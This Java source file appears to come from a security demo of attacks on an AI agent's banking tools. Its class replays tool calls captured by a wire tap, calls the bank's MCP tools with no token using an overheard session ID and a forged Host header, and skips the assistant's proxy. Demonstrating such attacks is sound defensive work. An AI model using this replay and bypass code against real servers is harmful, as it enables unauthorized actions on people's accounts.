/* SPDX-License-Identifier: Apache-2.0 */
package io.casa.demo.agent;

import com.fasterxml.jackson.databind.JsonNode;
import io.casa.demo.app.DemoException;
import java.io.IOException;
import java.net.ProxySelector;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.HashMap;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.UUID;

/** The attacker's own way to the bank's door, past the proxy that the assistant was given. */
final class StraightToBank implements AutoCloseable {
  private static final Duration PATIENCE = Duration.ofSeconds(20);

  /** Not the caller's to set when a request is sent anew, or set by the wire it was seen on. */
  private static final Set<String> NOT_REPLAYED =
      Set.of("x-request-id", "x-forwarded-proto", "x-forwarded-for");

  private final HttpClient client =
      HttpClient.newBuilder()
          .version(HttpClient.Version.HTTP_1_1)
          .proxy(ProxySelector.of(null))
          .build();

  private final URI tap;
  private final String door;
  private final String bankHost;

  /** What came back: status, body and headers. */
  record Answer(int status, String body, Map<String, Object> headers) {
    Answer {
      headers = Map.copyOf(headers);
    }
  }

  /** A tool call seen on the wire. */
  record Seen(String tool, String path, Map<String, String> headers, String body) {
    Seen {
      headers = Map.copyOf(headers);
    }

    @Override
    public String toString() {
      return "Seen[" + tool + "]";
    }
  }

  /**
   * With what the attacker has found out.
   *
   * @param tap where the wire tap shows the last tool call
   * @param door host and port where the bank's server is reached
   * @param bankHost the {@code Host} the bank's server goes by
   */
  StraightToBank(URI tap, String door, String bankHost) {
    this.tap = tap;
    this.door = door;
    this.bankHost = bankHost;
  }

  /** Must run before the first use of the JDK's client: an attacker sets its own {@code Host}. */
  static void allowHostHeader() {
    System.setProperty("jdk.httpclient.allowRestrictedHeaders", "host");
  }

  /** The last tool call that went over the tapped wire. */
  Optional<Seen> overheard() {
    HttpResponse<String> answer = send(HttpRequest.newBuilder(tap.resolve("/last")).GET());
    if (answer.statusCode() != 200) {
      return Optional.empty();
    }
    try {
      JsonNode seen = AgentJson.mapper().readTree(answer.body());
      var headers = new HashMap<String, String>();
      seen.path("headers")
          .properties()
          .forEach(header -> headers.put(header.getKey(), header.getValue().asText()));
      String body = seen.path("body").asText();
      String tool = AgentJson.mapper().readTree(body).path("params").path("name").asText();
      return Optional.of(new Seen(tool, seen.path("path").asText("/mcp"), headers, body));
    } catch (IOException e) {
      throw new DemoException("What the tap shows can't be read.", e);
    }
  }

  /** Sends what was overheard again, to the letter. */
  Answer replay(Seen seen) {
    var request = HttpRequest.newBuilder(URI.create("http://" + door + seen.path()));
    seen.headers().entrySet().stream()
        .filter(header -> !NOT_REPLAYED.contains(header.getKey()))
        .forEach(header -> request.header(header.getKey(), header.getValue()));
    return answer(request.POST(HttpRequest.BodyPublishers.ofString(seen.body())));
  }

  /** Calls a tool without any credential, in the session that was overheard if there is one. */
  Answer callWithoutToken(String tool, Map<String, Object> arguments, Optional<Seen> seen) {
    var request =
        HttpRequest.newBuilder(URI.create("http://" + door + "/mcp"))
            .header("Host", bankHost)
            .header("Content-Type", "application/json")
            .header("Accept", "application/json, text/event-stream");
    seen.map(Seen::headers)
        .map(headers -> headers.get("mcp-session-id"))
        .ifPresent(session -> request.header("Mcp-Session-Id", session));
    String body =
        AgentJson.write(
            Map.of(
                "jsonrpc",
                "2.0",
                "id",
                UUID.randomUUID().toString(),
                "method",
                "tools/call",
                "params",
                Map.of("name", tool, "arguments", arguments)));
    return answer(request.POST(HttpRequest.BodyPublishers.ofString(body)));
  }

  private Answer answer(HttpRequest.Builder request) {
    HttpResponse<String> answer = send(request);
    var headers = new HashMap<String, Object>();
    answer.headers().map().forEach((name, values) -> headers.put(name, String.join(", ", values)));
    return new Answer(answer.statusCode(), answer.body(), headers);
  }

  private HttpResponse<String> send(HttpRequest.Builder request) {
    try {
      return client.send(
          request.timeout(PATIENCE).build(),
          HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
    } catch (IOException e) {
      throw new DemoException("The attacker's own request found nobody.", e);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new DemoException("The attacker was interrupted.", e);
    }
  }

  @Override
  public void close() {
    client.shutdownNow();
  }
}
